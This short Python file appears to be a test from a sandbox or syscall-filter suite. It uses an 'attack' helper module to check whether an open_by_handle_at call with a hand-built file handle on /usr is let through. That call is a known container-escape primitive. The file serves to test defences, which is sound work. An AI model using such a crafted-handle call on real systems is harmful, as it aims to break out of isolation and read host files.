import ctypes, os
from attack import done, let_through

handle = ctypes.create_string_buffer(
    (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + bytes(128)
)
let_through("open_by_handle_at", os.open("/usr", os.O_RDONLY), handle, os.O_RDONLY)
done()
